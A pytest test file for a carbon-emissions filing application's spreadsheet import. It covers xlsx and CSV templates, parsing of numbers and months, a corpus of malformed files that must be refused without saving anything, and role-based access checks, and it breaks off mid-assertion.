"""Importing monthly data from a spreadsheet: the template, the parser and its corpus of real-world files, the pages.

Every refused file leaves the database exactly as it was (filings, lines, production, calculations, audit events).
"""
import csv
import hashlib
import html
import io
import time
import zipfile
from datetime import date, datetime
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import func, select

from app.accounting.models import EmissionSource, Facility
from app.audit.models import AuditEvent
from app.core.numbers import rounded
from app.filings import services as filing_services
from app.filings.imports import services as import_services
from app.filings.imports.layout import ProductRef, SourceRef
from app.filings.imports.parser import parse_workbook
from app.filings.imports.problems import CellError
from app.filings.imports.template import build_csv, build_xlsx
from app.filings.imports.values import parse_month, parse_number
from app.filings.models import Calculation, Filing, FilingLine, ProductionLine
from tests.conftest import csrf_token, login

MONTH = "2022-06"  # worked example 7: 2,592.843 tCO2e with the 2022 national grid factor
EXAMPLE_7 = {"gas": 38, "diesel": 15.5, "power": 2350.4, "heat": 4200}
EXAMPLE_7_TOTAL = Decimal("2592.843")
ACTIVITY, PRODUCTION, OUTPUT = "活动数据 Activity data", "产品产量 Production", "工业总产值 Output value"
URL = "/filings/import/"


# ------------------------------------------------------------------------------------------------ fixtures

@pytest.fixture
def plant(plant, db, make_user):
    """The shared plant (tests/conftest.py) with an English-speaking energy manager and the facility's English name."""
    manager = make_user(plant["org"], "energy_manager")
    manager.locale = "en"
    plant["facility"].name_en = "Plant 1"
    db.session.commit()
    return {**plant, "manager": manager}


@pytest.fixture
def other_source(db, make_org):
    org = make_org(name="别家企业")
    facility = Facility(org_id=org.id, name="别家厂区")
    db.session.add(facility)
    db.session.flush()
    source = EmissionSource(org_id=org.id, facility_id=facility.id, name="别家锅炉", category="stationary_combustion",
                            material="natural_gas", activity_unit="10^4 Nm3")
    db.session.add(source)
    db.session.commit()
    return source


# Not the shared `manager` (a user) of tests/conftest.py: here, the client signed in as the plant's energy manager.
@pytest.fixture
def manager(client, plant):
    login(client, plant["manager"])
    return client


# ------------------------------------------------------------------------------------------------- helpers

def _template(client, first=MONTH, last=MONTH, fmt="xlsx") -> bytes:
    response = client.get(f"{URL}template.{fmt}?from={first}&to={last}")
    assert response.status_code == 200, response.get_data(as_text=True)[:500]
    return response.data


def _bytes(book) -> bytes:
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _column(sheet, label: str, header_row: int = 2) -> int:
    return [c.value for c in sheet[header_row]].index(label) + 1


def _row(sheet, source_id: int, month: str = MONTH) -> int:
    for row in range(3, sheet.max_row + 1):
        if sheet.cell(row=row, column=1).value == month and sheet.cell(row=row, column=3).value == source_id:
            return row
    raise AssertionError(f"no row for source {source_id} in {month}")


def _filled(plant, data: bytes, values=EXAMPLE_7, month=MONTH, product=1000, output=5000):
    """The downloaded template with quantities typed in, as openpyxl would save them from Excel."""
    book = load_workbook(io.BytesIO(data))
    activity = book[ACTIVITY]
    quantity = _column(activity, "数量 Quantity")
    for key, value in values.items():
        activity.cell(row=_row(activity, plant["sources"][key].id, month), column=quantity, value=value)
    if product is not None:
        sheet = book[PRODUCTION]
        row = next(r for r in range(3, sheet.max_row + 1) if sheet.cell(row=r, column=1).value == month)
        sheet.cell(row=row, column=_column(sheet, "产量 Quantity"), value=product)
    if output is not None:
        sheet = book[OUTPUT]
        row = next(r for r in range(3, sheet.max_row + 1) if sheet.cell(row=r, column=1).value == month)
        sheet.cell(row=row, column=2, value=output)
    return book


def _upload(client, data: bytes, filename="月报.xlsx"):
    token = csrf_token(client, URL)
    return client.post(URL, data={"csrf_token": token, "file": (io.BytesIO(data), filename)},
                       content_type="multipart/form-data")


def _text(response) -> str:
    return html.unescape(response.get_data(as_text=True))


def _counts(db) -> tuple:
    return tuple(db.session.scalar(select(func.count()).select_from(model))
                 for model in (Filing, FilingLine, ProductionLine, Calculation, AuditEvent))


def _filing(db, org, month=MONTH) -> Filing | None:
    period = date(int(month[:4]), int(month[5:]), 1)
    return db.session.scalar(select(Filing).where(Filing.org_id == org.id, Filing.period == period))


def _current_total(db, filing) -> Decimal:
    calc = db.session.scalar(select(Calculation).where(Calculation.filing_id == filing.id, Calculation.is_current))
    return rounded(calc.total_tco2e, 3)


def _future_month() -> str:
    today = import_services.local_today()
    year, month = (today.year + 1, today.month - 10) if today.month > 10 else (today.year, today.month + 2)
    return f"{year}-{month:02d}"


def _refs(plant) -> tuple[dict, dict]:
    """The plant's register as the pure parser takes it."""
    s = plant["sources"]
    sources = {src.id: SourceRef(id=src.id, facility="一号厂区", facility_en="Plant 1", name=src.name,
                                    category=src.category, material=src.material, unit=src.activity_unit,
                                    dimensions=("energy",) if key in ("power", "heat") else ())
               for key, src in s.items()}
    p = plant["product"]
    return sources, {p.id: ProductRef(id=p.id, name=p.name, name_en=p.name_en, unit=p.unit)}


# -------------------------------------------------------------------------------------- round trips (accepted)

def test_round_trip_xlsx_saves_every_month_with_figures(app, db, plant, manager):
    data = _template(manager, MONTH, "2022-07")
    upload = _bytes(_filled(plant, data))
    before = _counts(db)
    response = _upload(manager, upload)
    page = _text(response)
    assert response.status_code == 200, page[:3000]
    assert 'data-testid="import-done"' in page and "2,592.843" in page

    filing = _filing(db, plant["org"])
    assert filing.status == "draft" and len(filing.lines) == 4
    assert {line.source_id: (line.quantity, line.unit) for line in filing.lines} == {
        plant["sources"]["gas"].id: (Decimal("38"), "10^4 Nm3"), plant["sources"]["diesel"].id: (Decimal("15.5"), "t"),
        plant["sources"]["power"].id: (Decimal("2350.4"), "MWh"), plant["sources"]["heat"].id: (Decimal("4200"), "GJ")}
    assert _current_total(db, filing) == EXAMPLE_7_TOTAL
    assert [(p.product_id, p.quantity, p.unit) for p in filing.production] == [(plant["product"].id, Decimal("1000"), "t")]
    assert filing.output_value_10k_cny == Decimal("5000")
    # 2022-07 was in the template but left empty: no filing is made for it.
    assert _filing(db, plant["org"], "2022-07") is None
    assert "2022-07" in page

    event = db.session.scalar(select(AuditEvent).where(AuditEvent.action == "filing.imported"))
    assert event.detail["sha256"] == hashlib.sha256(upload).hexdigest()
    assert event.detail["months"] == [MONTH] and event.detail["filename"] == "月报.xlsx"
    assert event.org_id == plant["org"].id and event.actor_id == plant["manager"].id
    after = _counts(db)
    assert after[0] == before[0] + 1 and after[1] == before[1] + 4


def test_importing_again_replaces_the_draft(app, db, plant, manager):
    data = _template(manager)
    assert _upload(manager, _bytes(_filled(plant, data))).status_code == 200
    response = _upload(manager, _bytes(_filled(plant, data, values={"diesel": 20}, product=None, output=None)))
    assert response.status_code == 200
    filing = _filing(db, plant["org"])
    assert [(line.source_id, line.quantity) for line in filing.lines] == [(plant["sources"]["diesel"].id, Decimal("20"))]
    assert filing.production == [] and filing.output_value_10k_cny is None
    assert db.session.scalar(select(func.count()).select_from(Filing)) == 1
    assert db.session.scalar(select(func.count()).select_from(Calculation)) == 1


def _csv_filled(plant, text: str, values=EXAMPLE_7) -> str:
    rows = list(csv.reader(io.StringIO(text)))
    by_id = {str(plant["sources"][key].id): value for key, value in values.items()}
    section = None
    for row in rows:
        if row and row[0] == "月份 Month":
            section = row[1]
            continue
        if not row:
            continue
        if section == "设施 Facility" and row[0] == MONTH and row[2] in by_id:
            row[7] = str(by_id[row[2]])
        elif section == "产品编号 Product ID" and row[0] == MONTH:
            row[4] = "1000"
        elif section.startswith("工业总产值") and row[0] == MONTH:
            row[1] = "5,000"
    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n").writerows(rows)
    return out.getvalue()


def test_round_trip_csv(app, db, plant, manager):
    data = _template(manager, fmt="csv")
    assert data.startswith(b"\xef\xbb\xbf")
    text = data.decode("utf-8-sig")
    assert "活动数据" not in text.splitlines()[0] and text.splitlines()[0].startswith("月份 Month,设施 Facility")
    response = _upload(manager, ("\ufeff" + _csv_filled(plant, text)).encode("utf-8"), "月报.csv")
    assert response.status_code == 200, _text(response)[:3000]
    filing = _filing(db, plant["org"])
    assert _current_total(db, filing) == EXAMPLE_7_TOTAL and filing.output_value_10k_cny == Decimal("5000")


def test_gbk_csv_from_chinese_excel_is_accepted(app, db, plant, manager):
    text = _csv_filled(plant, _template(manager, fmt="csv").decode("utf-8-sig"))
    # Chinese Excel saves "CSV (comma delimited)" in GBK, without a BOM; the ³ of "m³" has no GBK form, so no units.
    data = text.replace("10^4 Nm3", "万Nm3").encode("gbk")
    with pytest.raises(UnicodeDecodeError):
        data.decode("utf-8")
    response = _upload(manager, data, "月报.csv")
    assert response.status_code == 200, _text(response)[:3000]
    assert _current_total(db, _filing(db, plant["org"])) == EXAMPLE_7_TOTAL


def _messy_workbook(plant) -> bytes:
    """What a person makes by hand: a merged title and group header, blank rows, text numbers, other sheet names."""
    s = plant["sources"]
    book = Workbook()
    sheet = book.active
    sheet.title = "6月能源"
    sheet.append(["锦湾示范化工有限公司 2022年6月 能源消耗"])
    sheet.merge_cells("A1:I1")
    sheet.append([None])
    sheet.append(["月份", "设施", "排放源编号", "排放源名称", "单位", "数量", "实测参数", None, None])
    sheet.append([None, None, None, None, None, None, "低位发热量", "含碳量", "碳氧化率"])
    for col in "ABCDEF":
        sheet.merge_cells(f"{col}3:{col}4")  # each header merged down over the two header rows
    sheet.merge_cells("G3:I3")
    sheet.append(["2022年6月", "一号厂区", s["gas"].id, "燃气锅炉", "万 Nm³", " 38 "])
    sheet.append([None])
    sheet.append([None, None, None, None, None, None])
    sheet.append([datetime(2022, 6, 1), "一号厂区", None, "厂内车辆", "吨", "１５.５"])  # no ID: facility and name
    sheet.append(["2022/06", "Plant 1", f"{s['power'].id}", "外购电力", "MWh", "2,350.4"])
    sheet.append(["2022-06", None, s["heat"].id, None, "GJ", 4200])
    sheet.append(["合计", None, None, None, None, "6,603.9"])  # a total row someone added: skipped
    for _ in range(5):
        sheet.append([])
    production = book.create_sheet("产量")
    production.append(["产品产量 Production"])
    production.append(["月份 Month", "产品名称 Product name", "单位 Unit", "产量 Quantity"])
    production.append(["2022-06", "醋酸", "吨", "1,000"])
    output = book.create_sheet("产值")
    output.append(["月份", "工业总产值（万元）"])
    output.append(["2022年06月", "5,000.00"])
    return _bytes(book)


def test_a_hand_made_workbook_is_accepted(app, db, plant, manager):
    response = _upload(manager, _messy_workbook(plant), "6月能源.xlsx")
    assert response.status_code == 200, _text(response)[:4000]
    filing = _filing(db, plant["org"])
    units = {line.source.name: (line.quantity, line.unit) for line in filing.lines}
    assert units == {"燃气锅炉": (Decimal("38"), "10^4 Nm3"), "厂内车辆": (Decimal("15.5"), "t"),
                     "外购电力": (Decimal("2350.4"), "MWh"), "外购热力": (Decimal("4200"), "GJ")}
    assert _current_total(db, filing) == EXAMPLE_7_TOTAL
    assert filing.production[0].quantity == Decimal("1000") and filing.output_value_10k_cny == Decimal("5000")


def test_vertically_merged_month_and_measured_values(app, db, plant, manager):
    s = plant["sources"]
    book = Workbook()
    sheet = book.active
    sheet.append(["Month", "Source ID", "Quantity", "Unit", "NCV", "Carbon content", "Oxidation rate", "Green MWh"])
    sheet.append(["2022-06", s["gas"].id, 38, "万Nm3", "389.31", None, "98%", None])
    sheet.append([None, s["power"].id, "2350.4", "MWh", None, None, None, "100"])
    sheet.merge_cells("A2:A3")
    book.create_sheet("P").append(["Month", "Product ID", "Quantity"])
    book.create_sheet("O").append(["Month", "Output value"])
    response = _upload(manager, _bytes(book))
    assert response.status_code == 200, _text(response)[:4000]
    lines = {line.source_id: line for line in _filing(db, plant["org"]).lines}
    assert lines[s["gas"].id].measured == {"ncv": "389.31", "oxidation_rate": "0.98"}
    assert lines[s["power"].id].green_mwh == Decimal("100")


# --------------------------------------------------------------------------------------- the corpus (refused)

def _set(plant, data, edits, month=MONTH):
    """The template with some cells of the activity sheet set: {(source key, column label): value}."""
    book = load_workbook(io.BytesIO(data))
    sheet = book[ACTIVITY]
    for (key, label), value in edits.items():
        sheet.cell(row=_row(sheet, plant["sources"][key].id, month), column=_column(sheet, label), value=value)
    return book


def _wrong_sheet(plant, data):
    book = Workbook()
    book.active.title = "Sheet1"
    book.active.append(["名称", "数值"])
    book.active.append(["天然气", 38])
    return _bytes(book), "wrong.xlsx"


def _text_in_number(plant, data):
    return _bytes(_set(plant, data, {("diesel", "数量 Quantity"): "abc"})), "text.xlsx"


def _negative(plant, data):
    return _bytes(_set(plant, data, {("diesel", "数量 Quantity"): -5})), "negative.xlsx"


def _duplicate(plant, data):
    book = _set(plant, data, {("gas", "数量 Quantity"): 38})
    sheet = book[ACTIVITY]
    sheet.append([MONTH, "一号厂区", plant["sources"]["gas"].id, "燃气锅炉", None, None, "10^4 Nm3", 40])
    return _bytes(book), "duplicate.xlsx"


def _unknown_unit(plant, data):
    book = _set(plant, data, {("diesel", "数量 Quantity"): 15.5, ("diesel", "单位 Unit"): "barrels"})
    return _bytes(book), "unit.xlsx"


def _wrong_kind_of_unit(plant, data):
    book = _set(plant, data, {("diesel", "数量 Quantity"): 15.5, ("diesel", "单位 Unit"): "MWh"})
    return _bytes(book), "unit.xlsx"


def _png(plant, data):
    return b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + bytes(200), "photo.xlsx"


def _formula(plant, data):
    return _bytes(_set(plant, data, {("diesel", "数量 Quantity"): "=10+5.5"})), "formula.xlsx"


def _xls(plant, data):
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4096), "old.xls"


def _docx(plant, data):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<document/>")
    return out.getvalue(), "report.xlsx"


def _unknown_source(plant, data):
    book = _set(plant, data, {("diesel", "数量 Quantity"): 15.5, ("diesel", "排放源编号 Source ID"): 999999})
    return _bytes(book), "unknown.xlsx"


def _future(plant, data):
    book = _set(plant, data, {("diesel", "数量 Quantity"): 15.5, ("diesel", "月份 Month"): _future_month()})
    return _bytes(book), "future.xlsx"


def _too_many_months(plant, data):
    diesel = plant["sources"]["diesel"].id
    lines = ["月份 Month,排放源编号 Source ID,数量 Quantity"]
    lines += [f"{2020 + i // 12}-{i % 12 + 1:02d},{diesel},1" for i in range(25)]
    lines += ["", "月份 Month,产品编号 Product ID,产量 Quantity", "", "月份 Month,工业总产值 Output value"]
    return "\r\n".join(lines).encode(), "months.csv"


def _missing_production_sheet(plant, data):
    book = _set(plant, data, {("diesel", "数量 Quantity"): 15.5})
    del book[PRODUCTION]
    return _bytes(book), "two-sheets.xlsx"


CORPUS = [
    (_wrong_sheet, "The sheet 活动数据 Activity data is missing"),
    (_text_in_number, "<td>数量 Quantity</td>\n      <td>H4</td>\n      <td>'abc' is not a number.</td>"),
    (_negative, "-5 is negative: figures cannot be negative."),
    (_duplicate, "燃气锅炉 appears twice for 2022-06 (also on row 3)."),
    (_unknown_unit, "unknown unit 'barrels'"),
    (_wrong_kind_of_unit, "'MWh' does not fit 厂内车辆 (entered in t)"),
    (_png, "This file is not a spreadsheet (it looks like PNG)"),
    (_formula, "cell H4 holds a formula (=10+5.5): formulas are not accepted, paste values."),
    (_xls, "This is an old-format Excel file (.xls)"),
    (_docx, "This file is not a spreadsheet (it is a zip archive, or a Word or PowerPoint file)"),
    (_unknown_source, "there is no emission source with ID 999999 in your register."),
    (_future, "is in the future."),
    (_too_many_months, "The file has figures for 25 months (2020-01 to 2022-01); at most 24 months"),
    (_missing_production_sheet, "The sheet 产品产量 Production is missing"),
]


@pytest.mark.parametrize("make,message", CORPUS, ids=[make.__name__.strip("_") for make, _ in CORPUS])
def test_a_bad_file_is_refused_whole_and_changes_nothing(app, db, plant, manager, make, message):
    data = _template(manager)
    bad, filename = make(plant, data)
    # Good figures for the other sources too: nothing of them may be saved either.
    before = _counts(db)
    response = _upload(manager, bad, filename)
    page = _text(response)
    assert response.status_code == 422, page[:3000]
    assert 'data-testid="import-problems"' in page and message in page, page[page.find("import-problems"):][:3000]
    assert _counts(db) == before


def test_a_file_with_good_rows_and_one_bad_cell_saves_nothing(app, db, plant, manager):
    book = _filled(plant, _template(manager))
    sheet = book[ACTIVITY]
    sheet.cell(row=_row(sheet, plant["sources"]["heat"].id), column=_column(sheet, "数量 Quantity"), value="4,2OO")
    before = _counts(db)
    response = _upload(manager, _bytes(book))
    assert response.status_code == 422 and "'4,2OO' is not a number." in _text(response)
    assert _counts(db) == before


def test_a_decimal_comma_in_a_text_cell_is_refused_with_its_cell_and_nothing_is_stored(app, db, plant, manager):
    """"6070,3" typed as text is neither 60,703 nor 6070.3: the cell is named, the file is refused whole."""
    book = _set(plant, _template(manager),
                {("gas", "数量 Quantity"): "6070,3", ("diesel", "数量 Quantity"): "1.234,5",
                 ("power", "数量 Quantity"): 2350.4, ("heat", "数量 Quantity"): "4,200"})
    sheet = book[ACTIVITY]
    column = _column(sheet, "数量 Quantity")
    cells = {key: sheet.cell(row=_row(sheet, plant["sources"][key].id), column=column).coordinate
             for key in ("gas", "diesel")}
    before = _counts(db)
    response = _upload(manager, _bytes(book))
    page = _text(response)
    assert response.status_code == 422, page[:3000]
    assert page.count('data-testid="import-problem"') == 2
    for key, typed in (("gas", "6070,3"), ("diesel", "1.234,5")):
        problem = (f"<td>{cells[key]}</td>\n      <td>'{typed}' is ambiguous: use a point for decimals and commas "
                   "only between groups of three digits, e.g. 6070.3 or 60,703.</td>")
        assert problem in page, page[page.find("import-problems"):][:3000]
    assert _counts(db) == before


def test_thousands_separators_in_text_cells_are_still_read(app, db, plant, manager):
    typed = {("gas", "数量 Quantity"): "60,703", ("gas", "单位 Unit"): "Nm3", ("diesel", "数量 Quantity"): 6070.3,
             ("power", "数量 Quantity"): "1,234,567.5", ("power", "单位 Unit"): "kWh"}
    book = _set(plant, _template(manager), typed)
    response = _upload(manager, _bytes(book))
    assert response.status_code == 200, _text(response)[:3000]
    s = plant["sources"]
    assert {line.source_id: (line.quantity, line.unit) for line in _filing(db, plant["org"]).lines} == {
        s["gas"].id: (Decimal(60703), "Nm3"), s["power"].id: (Decimal("1234567.5"), "kWh"),
        s["diesel"].id: (Decimal("6070.3"), "t")}


def test_every_problem_is_listed_with_sheet_row_and_column(app, db, plant, manager):
    book = _set(plant, _template(manager), {("gas", "数量 Quantity"): "x", ("diesel", "数量 Quantity"): -1,
                                            ("power", "数量 Quantity"): 10, ("power", "单位 Unit"): "t"})
    page = _text(_upload(manager, _bytes(book)))
    assert page.count('data-testid="import-problem"') == 3
    for cell in ("H3", "H4", "G5"):
        assert f"<td>{cell}</td>" in page


def test_another_enterprises_source_reads_as_unknown(app, db, plant, manager, other_source):
    data = _template(manager)
    foreign = _bytes(_set(plant, data, {("diesel", "数量 Quantity"): 1, ("diesel", "排放源编号 Source ID"): other_source.id}))
    missing_id = other_source.id + 1000
    missing = _bytes(_set(plant, data, {("diesel", "数量 Quantity"): 1, ("diesel", "排放源编号 Source ID"): missing_id}))
    before = _counts(db)
    foreign_page, missing_page = _text(_upload(manager, foreign)), _text(_upload(manager, missing))
    assert f"there is no emission source with ID {other_source.id} in your register." in foreign_page
    assert "别家" not in foreign_page

    def problems(page, source_id):
        table = page[page.index('data-testid="import-problems"'):]
        return table[:table.index("</table>")].replace(str(source_id), "N")

    # The same problem, word for word: the page does not reveal that the source exists.
    assert problems(foreign_page, other_source.id) == problems(missing_page, missing_id)
    assert _counts(db) == before


def test_a_submitted_month_refuses_the_whole_file(app, db, plant, manager):
    data = _template(manager, MONTH, "2022-07")
    assert _upload(manager, _bytes(_filled(plant, data))).status_code == 200
    filing = _filing(db, plant["org"])
    filing.status = "submitted"
    db.session.commit()
    book = _filled(plant, _bytes(_filled(plant, data)), month="2022-07")
    before = _counts(db)
    response = _upload(manager, _bytes(book))
    assert response.status_code == 422 and "2022-06 is already submitted" in _text(response)
    assert _counts(db) == before and _filing(db, plant["org"], "2022-07") is None


def test_a_calculation_error_rolls_back_every_month(app, db, plant, manager):
    odd = EmissionSource(org_id=plant["org"].id, facility_id=plant["facility"].id, name="神秘燃料",
                         category="stationary_combustion", material="unobtainium", activity_unit="t")
    db.session.add(odd)
    db.session.commit()
    data = _template(manager, MONTH, "2022-07")
    book = _filled(plant, data, month="2022-07")
    sheet = book[ACTIVITY]
    sheet.cell(row=_row(sheet, odd.id), column=_column(sheet, "数量 Quantity"), value=3)
    before = _counts(db)
    response = _upload(manager, _bytes(book))
    page = _text(response)
    assert response.status_code == 422 and "神秘燃料, 2022-06" in page, page[:3000]
    assert _counts(db) == before


def test_a_50_mb_file_is_refused_by_its_size_before_parsing(app, db, plant, manager):
    before = _counts(db)
    token = csrf_token(manager, URL)
    started = time.monotonic()
    response = manager.post(URL, data={"csrf_token": token, "file": (io.BytesIO(bytes(50 * 1024 * 1024)), "big.xlsx")},
                            content_type="multipart/form-data")
    assert response.status_code == 413  # the platform's limit on any request (issue 16 #3) answers first
    assert "12 MB" in _text(response)
    assert time.monotonic() - started < 10
    assert _counts(db) == before


def test_the_size_limit_comes_from_the_config(app, db, plant, manager):
    data = _bytes(_filled(plant, _template(manager)))
    app.config["IMPORT_MAX_BYTES"] = len(data) - 1
    try:
        response = _upload(manager, data)
    finally:
        del app.config["IMPORT_MAX_BYTES"]
    assert response.status_code == 422 and "files up to" in _text(response)
    assert _filing(db, plant["org"]) is None


def test_no_file_is_a_form_error(app, db, plant, manager):
    response = manager.post(URL, data={"csrf_token": csrf_token(manager, URL)}, content_type="multipart/form-data")
    assert response.status_code == 200 and "Choose the file to upload." in _text(response)


def test_a_stale_form_keeps_nothing_and_says_so(app, db, plant, manager):
    response = manager.post(URL, data={"file": (io.BytesIO(b"x"), "a.csv")}, content_type="multipart/form-data")
    assert response.status_code == 200 and 'data-testid="stale-form"' in response.get_data(as_text=True)


# ---------------------------------------------------------------------------------------------- the template

def test_template_has_the_active_sources_and_the_sheets(app, db, plant, manager):
    plant["sources"]["heat"].active = False
    db.session.commit()
    book = load_workbook(io.BytesIO(_template(manager, "2022-05", "2022-06")))
    assert book.sheetnames == [ACTIVITY, PRODUCTION, OUTPUT, "说明 Instructions"]
    sheet = book[ACTIVITY]
    assert [c.value for c in sheet[2]][:8] == ["月份 Month", "设施 Facility", "排放源编号 Source ID",
                                              "排放源名称 Source name", "类别 Category", "燃料/物料 Material",
                                              "单位 Unit", "数量 Quantity"]
    rows = [tuple(c.value for c in row[:7]) for row in sheet.iter_rows(min_row=3)]
    assert len(rows) == 6 and {r[0] for r in rows} == {"2022-05", "2022-06"}
    assert plant["sources"]["heat"].id not in {r[2] for r in rows}
    gas = next(r for r in rows if r[2] == plant["sources"]["gas"].id)
    assert gas[1] == "一号厂区" and gas[6] == "10^4 Nm3" and "Stationary" in gas[4] and "天然气" in gas[5]
    assert sheet["C3"].fill.fgColor.rgb.endswith("E7E6E6")  # the ID column looks locked
    assert sheet.column_dimensions["D"].width > 15 and sheet.freeze_panes == "A3"
    # Measured parameters apply to fuels only; other rows have them greyed out.
    power_row = _row(sheet, plant["sources"]["power"].id, "2022-05")
    assert sheet.cell(row=power_row, column=9).fill.fgColor.rgb.endswith("E7E6E6")
    assert not sheet.cell(row=power_row, column=14).fill.fgColor.rgb.endswith("E7E6E6")  # green MWh applies
    production = list(book[PRODUCTION].iter_rows(min_row=3, values_only=True))
    assert production[0][:4] == ("2022-05", plant["product"].id, "醋酸 Acetic acid", "t")
    instructions = " ".join(str(c.value) for row in book["说明 Instructions"].iter_rows() for c in row)
    assert "CSV" in instructions and "GBK" in instructions


def test_template_defaults_to_last_month(app, db, plant, manager):
    today = import_services.local_today()
    last = date(today.year - (today.month == 1), (today.month - 2) % 12 + 1, 1).strftime("%Y-%m")
    response = manager.get(f"{URL}template.xlsx")
    assert response.status_code == 200 and "attachment" in response.headers["Content-Disposition"]
    rows = list(load_workbook(io.BytesIO(response.data))[ACTIVITY].iter_rows(min_row=3, values_only=True))
    assert {r[0] for r in rows} == {last}


@pytest.mark.parametrize("query,message", [
    ("from=2020-01&to=2022-06", "A template covers at most 24 months."),
    ("from=2022-06&to=2022-01", "The last month comes before the first."),
    ("from=June", "Give the months as YYYY-MM"),
])
def test_template_months_are_checked(app, db, plant, manager, query, message):
    response = manager.get(f"{URL}template.csv?{query}", follow_redirects=True)
    assert message in _text(response)


def test_template_refuses_future_months(app, db, plant, manager):
    response = manager.get(f"{URL}template.xlsx?from={_future_month()}", follow_redirects=True)
    assert "is in the future" in _text(response)


# ------------------------------------------------------------------------------------------------- access

@pytest.mark.parametrize("role", ["viewer", "regulator", "platform_admin"])
def test_only_enterprise_filers_import(app, db, client, plant, make_user, authority, role):
    org = authority if role != "viewer" else plant["org"]
    login(client, make_user(org, role))
    before = _counts(db)
    assert client.get(URL).status_code == 403
    assert client.get(f"{URL}template.xlsx").status_code == 403
    token = csrf_token(client, "/")
    response = client.post(URL, data={"file": (io.BytesIO(_messy_workbook(plant)), "a.xlsx"), "csrf_token": token},
                           content_type="multipart/form-data")
    assert response.status_code == 403
    assert _counts(db) == before


def test_enterprise_admin_may_import(app, db, client, plant):
    login(client, plant["admin"])
    assert client.get(URL).status_code == 200
    assert _upload(client, _bytes(_filled(plant, _template(client)))).status_code == 200


def test_the_audit_trail_names_the_import(app, db, client, plant):
    login(client, plant["admin"])
    _upload(client, _bytes(_filled(plant, _template(client))))
    page = client.get("/audit/").get_data(as_text=True)
    assert "从电子表格导入月度数据" in page


def test_problems_are_shown_in_chinese(app, db, client, plant):
    login(client, plant["admin"])  # the default locale
    page = _text(_upload(client, _bytes(_set(plant, _template(client), {("diesel", "数量 Quantity"): "abc"}))))
    assert "<td>“abc”不是数字。</td>" in page and "<th>工作表</th>" in page
    assert "未保存任何内容。文件中发现 1 处问题" in page


# ----------------------------------------------------------------------------------- the parser, without an app

def _parse(data: bytes, sources=None, products=None, today=date(2026, 11, 25), **kw):
    return parse_workbook(data, sources=sources or {}, products=products or {}, today=today, **kw)


@pytest.mark.parametrize("text,month", [
    ("2026-10", date(2026, 10, 1)), ("2026/10", date(2026, 10, 1)), ("2026年10月", date(2026, 10, 1)),
    ("2026年1月", date(2026, 1, 1)), (" 2026.03 ", date(2026, 3, 1)), ("２０２６－１０", date(2026, 10, 1)),
    ("2026-10-01", date(2026, 10, 1)), ("2026-10-01 00:00:00", date(2026, 10, 1)), (202610, date(2026, 10, 1)),
    (datetime(2026, 10, 1), date(2026, 10, 1)), (date(2026, 10, 15), date(2026, 10, 1)),
    ("2026/6/1", date(2026, 6, 1)), ("Jun-26", date(2026, 6, 1)), ("June 2026", date(2026, 6, 1)),
])
def test_months_as_people_write_them(text, month):
    assert parse_month(text) == month


@pytest.mark.parametrize("text", ["October", "2026-13", "10/2026", "1999-12", 2026.1, "", None, True, "Foo-22"])
def test_not_months(text):
    with pytest.raises(CellError):
        parse_month(text)


@pytest.mark.parametrize("value,number", [
    ("12,345.6", Decimal("12345.6")), (" 12 345.6 ", Decimal("12345.6")), ("１２３４５．６", Decimal("12345.6")),
    ("１２，３４５", Decimal("12345")), (2350.4, Decimal("2350.4")), (0.1, Decimal("0.1")), (38, Decimal("38")),
    ("1.5E3", Decimal("1500")), (".5", Decimal("0.5")), ("-0", Decimal("0")), ("−5", Decimal("-5")),
    ("60,703", Decimal(60703)), ("1,234,567.5", Decimal("1234567.5")), ("１２,３４５", Decimal(12345)),
    (6070.3, Decimal("6070.3")), (Decimal("6070.3"), Decimal("6070.3")),
])
def test_numbers_as_people_write_them(value, number):
    assert parse_number(value) == number


@pytest.mark.parametrize("value", ["abc", "1,5", "12,34", "1.2.3", "38 万Nm3", "nan", "inf", True, "", "1e30",
                                   float("nan"), datetime(2026, 1, 1)])
def test_not_numbers(value):
    with pytest.raises(CellError):
        parse_number(value)


@pytest.mark.parametrize("value", ["6070,3", "1,2345", "1.234,5", "12,34.5", "1,5", ",5", "5,", "1.234.567",
                                   "6070，3", "1 234,5", "6070_3", "6070,3%"])
def test_a_decimal_comma_or_mixed_separators_are_ambiguous_not_guessed(value):
    with pytest.raises(CellError) as refused:
        parse_number(value, percent=True)
    assert str(refused.value.message) == (f"'{value}' is ambiguous: use a point for decimals and commas only between "
                                          "groups of three digits, e.g. 6070.3 or 60,703.")


def test_a_decimal_comma_reads_as_a_sentence_with_its_sheet_row_and_column():
    data = ('月份,排放源编号,数量\r\n\r\n2026-10,1,"6070,3"' + TABLES).encode()
    assert [str(p) for p in _parse(data, SOURCES, PRODUCTS).problems] == [
        ("活动数据 Activity data sheet, row 3, column 数量 Quantity: '6070,3' is ambiguous: use a point for "
         "decimals and commas only between groups of three digits, e.g. 6070.3 or 60,703.")]


def test_percent_only_where_a_fraction_is_meant():
    assert parse_number("98%", percent=True) == Decimal("0.98")
    with pytest.raises(CellError):
        parse_number("98%")


SOURCES = {
    1: SourceRef(1, "一号厂区", "燃气锅炉", "stationary_combustion", "natural_gas", "10^4 Nm3"),
    2: SourceRef(2, "一号厂区", "外购电力", "purchased_electricity", "electricity", "MWh", dimensions=("energy",)),
    3: SourceRef(3, "二号厂区", "燃气锅炉", "stationary_combustion", "natural_gas", "10^4 Nm3"),
}
PRODUCTS = {9: ProductRef(9, "醋酸", "t", "Acetic acid")}
TABLES = "\r\n\r\n月份,产品编号,产量\r\n\r\n月份,工业总产值\r\n"


def test_english_headers_with_semicolons_and_names_instead_of_ids():
    data = ("Month;Facility;Source name;Unit;Quantity\r\n"
            "2026-10;一号厂区;燃气锅炉;万Nm3;1\r\n2026-10;二号厂区;燃气锅炉;万Nm3;2\r\n"
            "2026-10;;外购电力;kWh;3000\r\n\r\nMonth;Product name;Quantity\r\n2026-10;Acetic acid;5\r\n\r\n"
            "Month;Output value\r\n2026-10;12,000\r\n").encode()
    parsed = _parse(data, SOURCES, PRODUCTS)
    assert parsed.ok, [str(p) for p in parsed.problems]
    assert [(r.source_id, r.quantity, r.unit) for r in parsed.rows] == [
